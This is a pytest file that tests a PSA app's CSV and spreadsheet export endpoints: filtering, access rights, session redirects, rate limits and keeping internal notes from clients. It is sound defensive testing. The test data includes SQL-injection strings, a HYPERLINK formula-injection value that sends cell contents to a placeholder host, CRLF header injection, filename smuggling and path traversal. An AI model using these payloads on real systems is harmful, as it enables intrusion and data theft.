"""The pages' lists as files: for a session, with its rights, narrowed as the address says."""

import csv
import io
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import replace
from datetime import date

import httpx
import openpyxl
import pytest
from starlette.applications import Starlette

from psa_app import db, routes
from psa_app.api import exports
from psa_app.api.sheets import MOST_AT_ONCE, making
from psa_app.models import Account, User
from psa_app.resources import RESOURCES
from psa_app.rules.evidence import check_pack
from psa_app.services.identity.cookies import cookie_name
from psa_app.services.identity.sessions import open_session
from psa_app.services.invoices.draft import draft_invoice
from psa_app.services.invoices.issue import issue_invoice
from tests.support.prepared import prepared
from tests.support.servers import serve
from tests.support.world import MON, TUE, World, do, make_world

TODAY = date(2026, 11, 23)


@pytest.fixture(scope="module")
def app() -> Iterator[str]:
    with serve(Starlette(routes=exports.routes)) as address:
        yield address


world = prepared(make_world, only_sqlite=True)


def get(app: str, address: str, world: World | None = None, who: str = "") -> httpx.Response:
    cookies = {}
    if world is not None:
        with db.unit_of_work() as session:
            user = session.get_one(User, world[who].user_id)
            cookies[cookie_name()] = open_session(session, user, "192.0.2.1", "test")
    return httpx.get(app + address, cookies=cookies, trust_env=False)


def rows(answer: httpx.Response) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))


def test_a_list_is_narrowed_as_its_page_is(app, world):
    plain, sheet = routes.export("accounts", q="north", is_archived="false")
    answer = get(app, plain, world, "Fred")
    assert [row["Name"] for row in rows(answer)] == ["Northwind"]
    assert answer.headers["content-disposition"] == 'attachment; filename="accounts.csv"'
    assert answer.headers["cache-control"] == "private, no-store"
    book = openpyxl.load_workbook(io.BytesIO(get(app, sheet, world, "Fred").content))
    assert [row[1].value for row in book.active.iter_rows(min_row=2)] == ["Northwind"]


def test_invoices_carry_what_is_open_in_whole_amounts(app, world):
    for day in (MON, TUE):
        world.worked("Ann", "Build", day, 60)
        draft = do(draft_invoice, world["Fred"], account_id=world.clients["Northwind"], until=TODAY)
    do(issue_invoice, world["Fred"], draft.id)
    every = rows(get(app, routes.export("invoices")[0], world, "Fred"))
    assert {row["State"] for row in every} <= {"draft", "issued"}
    (issued,) = rows(get(app, routes.export("invoices", view="open")[0], world, "Fred"))
    assert (issued["Total"], issued["Open"], issued["Currency"]) == (issued["Total"], issued["Total"], "EUR")
    assert "." in issued["Total"]


@pytest.mark.parametrize(
    ("who", "kind", "status"),
    [
        ("Ann", "invoices", 403),
        ("Nina", "accounts", 403),
        ("Fred", "users_of_mars", 404),
        ("Fred", "tasks", 200),
    ],
)
def test_rights_hold_for_files_too(app, world, who, kind, status):
    assert get(app, routes.export(kind)[0], world, who).status_code == status


def test_nobody_without_a_session(app, world):
    answer = get(app, routes.export("accounts", q="north")[0])
    assert answer.status_code == 303
    assert answer.headers["location"].startswith(f"{routes.SIGN_IN}?next=%2Ffiles%2Fexport")


def test_a_wrong_filter_is_a_sentence(app, world):
    answer = get(app, "/files/export/accounts.csv?colour=red", world, "Fred")
    assert (answer.status_code, "no filter" in answer.text) == (400, True)
    assert get(app, "/files/export/accounts.pdf", world, "Fred").status_code == 404


@pytest.mark.parametrize(
    "query",
    [
        "q=%00",
        "q=" + "x" * 201,
        "q=%27%20OR%201=1--",
        "q=%25",
        "q=_",
        "sort=id;drop",
        "sort=%00",
        "view=%27",
        "client=%D9%A1",
        "client=1%20OR%201=1",
        "q=%ed%a0%80",
    ],
)
def test_hostile_text_finds_nothing_more_and_breaks_nothing(app, world, query):
    for kind in ("invoices", "accounts"):
        answer = get(app, f"/files/export/{kind}.csv?{query}", world, "Fred")
        assert answer.status_code in (200, 400), answer.text
        assert "Traceback" not in answer.text
        if query in ("q=%27%20OR%201=1--", "q=%25", "q=_"):
            assert rows(answer) == []
    if query.startswith(("q=%00", "q=x")):
        assert answer.status_code == 400


def test_a_name_runs_nothing_in_a_spreadsheet(app, world):
    evil = '=HYPERLINK("http://x/?"&A1);=2\r\n+3'
    with db.unit_of_work() as session:
        session.get_one(Account, world.clients["Northwind"]).name = evil
    plain, sheet = routes.export("accounts")
    names = [row["Name"] for row in rows(get(app, plain, world, "Fred"))]
    assert "'=HYPERLINK(\"http://x/?\"&A1);'=2\r\n'+3" in names
    book = openpyxl.load_workbook(io.BytesIO(get(app, sheet, world, "Fred").content))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_an_address_puts_nothing_into_the_headers(app, world):
    for kind in ("accounts%0d%0aX-Evil:1", 'accounts"; filename="x.exe', "../accounts", "accounts.csv%00"):
        answer = get(app, f"/files/export/{kind}.csv", world, "Fred")
        assert answer.status_code == 404
        assert "x-evil" not in answer.headers


def test_a_client_learns_from_files_what_the_portal_shows_and_no_more(app, world):
    """How time was written and decided on, and what the firm plans to spend, is not for clients."""
    world.worked("Ann", "Build", MON, 60, "Rework, our own mistake")
    for kind in RESOURCES:
        text = get(app, routes.export(kind)[0], world, "Nina").content
        assert b"Rework" not in text, kind
        assert b"Kestrel" not in text, kind
    (entry,) = rows(get(app, routes.export("entries")[0], world, "Nina"))
    assert set(entry) & {"Note", "Rejected because", "Came by", "Started", "Ended", "Timesheet"} == set()
    project = rows(get(app, routes.export("projects")[0], world, "Nina"))[0]
    assert not [name for name in project if name.startswith("Budget")]
    assert "Note" in rows(get(app, routes.export("entries")[0], world, "Ann"))[0]


def test_one_person_has_two_files_made_at_a_time(app, world):
    with making(world["Fred"]):
        assert get(app, routes.export("accounts")[0], world, "Fred").status_code == 200
    with making(world["Fred"]), making(world["Fred"]):
        answer = get(app, routes.export("accounts")[0], world, "Fred")
        assert (answer.status_code, "still being made" in answer.text) == (429, True)
        assert get(app, routes.export("accounts")[0], world, "Olga").status_code == 200
    assert get(app, routes.export("accounts")[0], world, "Fred").status_code == 200


def test_a_few_files_are_made_at_once_and_the_others_wait(app, world):
    with ExitStack() as others:
        for number in range(MOST_AT_ONCE):
            others.enter_context(making(replace(world["Fred"], user_id=9000 + number)))
        assert get(app, routes.export("accounts")[0], world, "Fred").status_code == 503
    assert get(app, routes.export("accounts")[0], world, "Fred").status_code == 200


def test_a_file_that_fails_makes_room_for_the_next(app, world):
    for _ in range(2):
        assert get(app, "/files/export/accounts.csv?colour=red", world, "Fred").status_code == 400


@pytest.mark.parametrize(("who", "status"), [("Olga", 200), ("Fred", 200), ("Lea", 403), ("Nina", 403)])
def test_the_pack_of_evidence_is_for_owner_and_finance(app, world, who, status):
    answer = get(app, routes.evidence(world.clients["Northwind"]), world, who)
    assert answer.status_code == status
    if status == 200:
        assert check_pack(answer.text).told == 2
        assert answer.headers["content-disposition"] == 'attachment; filename="evidence.json"'
